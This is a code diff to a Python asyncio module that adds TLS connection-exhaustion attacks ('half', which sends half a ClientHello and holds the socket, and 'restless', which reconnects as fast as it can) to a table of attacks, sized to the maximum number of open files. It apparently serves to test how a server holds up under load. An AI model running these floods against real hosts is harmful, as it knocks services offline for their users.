@@ -90,12 +90,39 @@ async def _silent(target: Target) -> None:
 
 async def _hanging(target: Target) -> None:
     """Begin a TLS handshake properly, so that the host works for it, and leave it at that."""
-    await _held(target, _client_hello())
+    await _held(target, client_hello())
+
+
+async def _half(target: Target) -> None:
+    """Begin to begin one, and leave it at that."""
+    hello = client_hello()
+    await _held(target, hello[: len(hello) // 2])
+
+
+async def _restless(target: Target) -> None:
+    """Begin a TLS handshake, leave when the host has worked for it, and come back at once."""
+    hello = client_hello()
+
+    async def begin() -> None:
+        reader, writer = await asyncio.open_connection(*target.address)
+        target.done += 1
+        try:
+            writer.write(hello)
+            async with asyncio.timeout(target.left):
+                await reader.read(MOST_BYTES)
+        finally:
+            writer.close()
+
+    await _together(target, begin, _crowd())
+
+
+def _crowd() -> int:
+    """Return how many connections an attacker can hold."""
+    return min(CROWD, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - _SPARE_FILES)
 
 
 async def _held(target: Target, words: bytes) -> None:
     """Hold as many connections as can be; one that the host closes is replaced."""
-    limit = min(CROWD, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - _SPARE_FILES)
 
     async def hold() -> None:
         reader, writer = await asyncio.open_connection(*target.address)
@@ -108,10 +135,11 @@ async def _held(target: Target, words: bytes) -> None:
         finally:
             writer.close()
 
-    await _together(target, hold, limit)
+    await _together(target, hold, _crowd())
 
 
-def _client_hello() -> bytes:
+def client_hello() -> bytes:
+    """Return what begins a TLS handshake."""
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
@@ -314,8 +342,10 @@ async def _over_and_over(target: Target, once: Once) -> None:
 
 ATTACKS: Final[Mapping[str, Attack]] = {
     "nothing": _nothing,
-    "silent": _silent,
+    "restless": _restless,
     "hanging": _hanging,
+    "half": _half,
+    "silent": _silent,
     "storm": _storm,
     "oversize": _oversize,
     "impostors": _impostors,
